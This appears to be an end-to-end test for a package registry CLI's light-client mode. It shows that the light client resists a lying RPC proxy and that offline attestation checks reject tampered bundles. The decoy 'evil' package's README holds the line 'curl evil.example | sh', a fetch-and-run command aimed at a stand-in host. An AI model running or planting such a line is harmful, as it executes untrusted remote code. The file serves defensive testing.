"""`modreg --light` end to end: an embedded smoldot light client against a real node, no RPC
node contacted. Its answers equal the RPC's; through a lying RPC node (a proxy that swaps one
version's CID, checksum and size for other content's) the RPC mode installs the wrong bytes and
the light mode the true ones; transactions go through it; its database is kept between runs."""

import json
import os
import socket
import subprocess
from pathlib import Path

from harness import ROOT, TEST_CHAIN, Process, free_port, http_post, wait_until
from test_cli import modreg_bin, pair  # noqa: F401  (pair is a fixture)
from test_install import tree

# No RPC node listens here: a light-mode command that tried one would fail.
NOWHERE = "ws://127.0.0.1:9"


def light_spec(node, path: Path):
    """The node's raw chain spec with the node as its bootnode."""
    spec = json.loads(Path(TEST_CHAIN[TEST_CHAIN.index("--chain") + 1]).read_text())
    peer = node.rpc("system_localPeerId")
    spec["bootNodes"] = [f"/ip4/127.0.0.1/tcp/{node.p2p_port}/p2p/{peer}"]
    path.write_text(json.dumps(spec))
    return path


def modreg(env, project, *args, code=0):
    result = subprocess.run(
        [modreg_bin(), "--json", *args], env=env, cwd=project, capture_output=True, text=True, timeout=300
    )
    assert result.returncode == code, f"modreg {args}: exit {result.returncode}\n{result.stdout}\n{result.stderr}"
    return json.loads(result.stdout), result.stderr


def test_light_mode(pair, tmp_path):  # noqa: F811
    ipfs, node = pair
    base = dict(os.environ, IPFS_API_URL=ipfs.url, MODREG_SURI="//Alice", MODREG_CACHE_DIR=str(tmp_path / "cache"))
    rpc_env = dict(base, MODREG_NODE=node.ws)
    spec = light_spec(node, tmp_path / "spec.json")
    light_env = dict(base, MODREG_NODE=NOWHERE, MODREG_LIGHT="1", MODREG_CHAIN_SPEC=str(spec))
    project = tmp_path / "project"
    project.mkdir()

    # Two packages published through the RPC node: the true one, and other content whose CID,
    # checksum and size a lying node will hand out for it.
    modreg(rpc_env, project, "namespace", "claim", "lite")
    true_src, evil_src = tmp_path / "true", tmp_path / "evil"
    true_src.mkdir()
    evil_src.mkdir()
    (true_src / "README").write_text("the real tool\n")
    (evil_src / "README").write_text("curl evil.example | sh\n")
    modreg(rpc_env, project, "publish", str(true_src), "--name", "lite/tool", "--version", "1.0.0")
    modreg(rpc_env, project, "publish", str(evil_src), "--name", "lite/evil", "--version", "1.0.0")
    truth, _ = modreg(rpc_env, project, "resolve", "lite/tool@=1.0.0")
    evil, _ = modreg(rpc_env, project, "resolve", "lite/evil@=1.0.0")
    assert truth["cid"] != evil["cid"]

    # The light client answers what the node answers (same JSON shapes), from its own proofs.
    fields = ("name", "version", "cid", "checksum", "size", "publisher", "publishedAt", "entryKey", "yanked")
    light, _ = modreg(light_env, project, "resolve", "lite/tool@^1")
    assert {k: light[k] for k in fields} == {k: truth[k] for k in fields}
    [listed], _ = modreg(light_env, project, "versions", "lite/tool")
    assert {k: listed[k] for k in fields} == {k: truth[k] for k in fields}
    package, _ = modreg(light_env, project, "package", "lite/tool")
    assert package["latest"] == "1.0.0" and package["versionCount"] == 1
    bad, _ = modreg(light_env, project, "resolve", "lite/tool@not-a-range", code=2)
    assert "not a valid version or range" in bad["error"]

    # A spec imported once is the default of --light; export prints it back; a spec without
    # raw genesis storage is refused at import.
    config_env = dict(base, MODREG_NODE=NOWHERE, XDG_CONFIG_HOME=str(tmp_path / "config"))
    imported, _ = modreg(config_env, project, "chain-spec", "import", str(spec))
    assert imported["bootnodes"] == 1 and Path(imported["path"]).is_file()
    exported = subprocess.run(
        [modreg_bin(), "chain-spec", "export"], env=config_env, capture_output=True, text=True, timeout=60
    )
    assert exported.returncode == 0 and json.loads(exported.stdout) == json.loads(spec.read_text())
    again, _ = modreg(dict(config_env, MODREG_LIGHT="1"), project, "resolve", "lite/tool@^1")
    assert again["cid"] == truth["cid"]
    plain_spec = tmp_path / "plain-spec.json"
    plain_spec.write_text(json.dumps({"name": "x", "genesis": {"runtimeGenesis": {}}}))
    refused_spec, _ = modreg(config_env, project, "chain-spec", "import", str(plain_spec), code=2)
    assert "raw" in refused_spec["error"], refused_spec

    # The light client's database is kept in the cache between runs, private, and reduced to
    # the genesis hash and the peers (no runtime code or finalized block a planted file could
    # make it believe).
    saved = list((tmp_path / "cache" / "light").glob("*.json"))
    assert len(saved) == 1, saved
    assert saved[0].stat().st_mode & 0o077 == 0, "the database is private to the user"
    database = json.loads(saved[0].read_text())
    assert set(database) == {"genesisHash", "nodes"} and database["nodes"], database

    # A lying RPC node: RPC mode installs the other content (every check passes, because the
    # node names the checksum too); light mode, given the same lying node as --node, does not
    # talk to it and installs the true content.
    port = free_port()
    proxy = Process(
        "lying-rpc-proxy",
        ["node", str(ROOT / "tests" / "e2e" / "lying_rpc_proxy.mjs"), str(port), node.ws, "lite/tool", "1.0.0",
         evil["cid"], evil["checksum"], str(evil["size"])],
    )
    try:
        def listening():
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                return True
            except OSError:
                return False

        wait_until(listening, 30, "the lying proxy to listen")
        lied_env = dict(rpc_env, MODREG_NODE=f"ws://127.0.0.1:{port}")
        fooled = tmp_path / "fooled"
        fooled.mkdir()
        modreg(lied_env, fooled, "install", "lite/tool@^1")
        assert tree(fooled / "modreg_modules" / "lite" / "tool") == tree(evil_src), "RPC mode believes its node"
        safe = tmp_path / "safe"
        safe.mkdir()
        out, _ = modreg(dict(light_env, MODREG_NODE=f"ws://127.0.0.1:{port}"), safe, "install", "lite/tool@^1")
        assert out["installed"][0]["version"] == "1.0.0"
        assert tree(safe / "modreg_modules" / "lite" / "tool") == tree(true_src)
        lock = json.loads((safe / "modreg.lock").read_text())
        assert lock["packages"][0]["cid"] == truth["cid"] and lock["packages"][0]["checksum"] == truth["checksum"]
        assert proxy.tail(200).count("lied") >= 1
    finally:
        proxy.stop()

    # An attestation of the version, made through any node and checked offline (no node at
    # all): the finalized header, its GRANDPA justification, the storage proof of the record.
    bundle_path = tmp_path / "tool.attestation.json"
    made, _ = modreg(rpc_env, project, "attest", "lite/tool@1.0.0", "-o", str(bundle_path))
    assert made["bytes"] <= 16384, made
    tarball = tmp_path / "tool.tgz"
    tarball.write_bytes(http_post(f"{ipfs.url}/api/v0/cat?arg={truth['cid']}"))
    offline_env = dict(base, MODREG_NODE=NOWHERE, MODREG_CHAIN_SPEC=str(spec))
    # The test chain's validator is //Alice, whose key is public: refused unless allowed.
    dev, _ = modreg(offline_env, project, "verify-attestation", str(bundle_path), "lite/tool@1.0.0", code=5)
    assert "development key" in dev["error"], dev
    checked, _ = modreg(
        offline_env, project, "verify-attestation", str(bundle_path), "lite/tool@1.0.0",
        "--allow-dev-keys", "--tarball", str(tarball),
    )
    proven = checked["verified"]
    assert proven["tarballChecked"] is True
    assert {k: proven[k] for k in ("cid", "checksum", "size", "publisher", "publishedAt")} == {
        k: truth[k] for k in ("cid", "checksum", "size", "publisher", "publishedAt")
    }
    assert proven["signedWeight"] >= proven["threshold"] > 0
    bundle = json.loads(bundle_path.read_text())

    def refused(edited, *extra, reference="lite/tool@1.0.0"):
        path = tmp_path / "edited.json"
        path.write_text(json.dumps(edited))
        out, _ = modreg(offline_env, project, "verify-attestation", str(path), reference, "--allow-dev-keys", *extra, code=5)
        return out["error"]

    # A valid bundle of another version than the one asked for.
    assert "not lite/tool@2.0.0" in refused(bundle, reference="lite/tool@2.0.0")

    # Another content's bytes against the true bundle.
    wrong = tmp_path / "evil.tgz"
    wrong.write_bytes(http_post(f"{ipfs.url}/api/v0/cat?arg={evil['cid']}"))
    error = refused(bundle, "--tarball", str(wrong))
    assert "not the content on chain" in error or "larger than the" in error, error
    # The true bytes with one byte changed (same size).
    flipped = tmp_path / "flipped.tgz"
    data = bytearray(tarball.read_bytes())
    data[len(data) // 2] ^= 1
    flipped.write_bytes(bytes(data))
    assert "not the content on chain" in refused(bundle, "--tarball", str(flipped))
    # A claim edited to name the other content.
    assert "its proof shows" in refused(dict(bundle, claims=dict(bundle["claims"], cid=evil["cid"])))
    # A proof node edited (one hex digit).
    proof = list(bundle["proof"])
    last = proof[-1]
    proof[-1] = last[:-1] + ("0" if last[-1] != "0" else "1")
    assert "does not match the state root" in refused(dict(bundle, proof=proof))
    # A justification of another block.
    node.wait_blocks(3)
    later_path = tmp_path / "later.json"
    modreg(rpc_env, project, "attest", "lite/tool@1.0.0", "-o", str(later_path))
    later = json.loads(later_path.read_text())
    assert later["block"] > bundle["block"]
    assert "finalizes another block" in refused(dict(bundle, justification=later["justification"]))
    # The version of another package proven in its place.
    assert refused(dict(bundle, package="lite/evil"))
    # A genuine bundle of another package, against the package the user asked for.
    evil_bundle = tmp_path / "evil.attestation.json"
    modreg(rpc_env, project, "attest", "lite/evil@1.0.0", "-o", str(evil_bundle))
    assert "not lite/tool@1.0.0" in refused(json.loads(evil_bundle.read_text()))
    # A version yanked at the attested block is refused unless allowed.
    modreg(rpc_env, project, "yank", "lite/evil", "1.0.0")
    modreg(rpc_env, project, "attest", "lite/evil@1.0.0", "-o", str(evil_bundle))
    assert "yanked" in refused(json.loads(evil_bundle.read_text()), reference="lite/evil@1.0.0")
    allowed, _ = modreg(
        offline_env, project, "verify-attestation", str(evil_bundle), "lite/evil@1.0.0", "--allow-dev-keys", "--allow-yanked"
    )
    assert allowed["verified"]["yanked"] is True

    # Index and content commands read through it too.
    synced, _ = modreg(light_env, project, "sync", "--index", str(tmp_path / "index.db"))
    offline, _ = modreg(rpc_env, project, "resolve", "lite/tool@^1", "--offline", "--index", str(tmp_path / "index.db"))
    assert offline["cid"] == truth["cid"], (synced, offline)

    # fetch: the entry's CID from the light client, the bytes from IPFS checked against it.
    plain = tmp_path / "notes.txt"
    plain.write_text("a plain file registered by key\n")
    modreg(rpc_env, project, "publish", str(plain), "--key", "light-file")
    fetched = tmp_path / "fetched.txt"
    modreg(light_env, project, "fetch", "light-file", "-o", str(fetched))
    assert fetched.read_bytes() == plain.read_bytes()

    # A transaction signed locally and submitted through the light client's peers.
    modreg(light_env, project, "register", "light-key", '{"name": "through smoldot"}')
    got, _ = modreg(rpc_env, project, "get", "light-key")
    assert "through smoldot" in json.dumps(got)
    info, _ = modreg(light_env, project, "info", "light-key")
    assert info["info"]["kind"] == "Json"
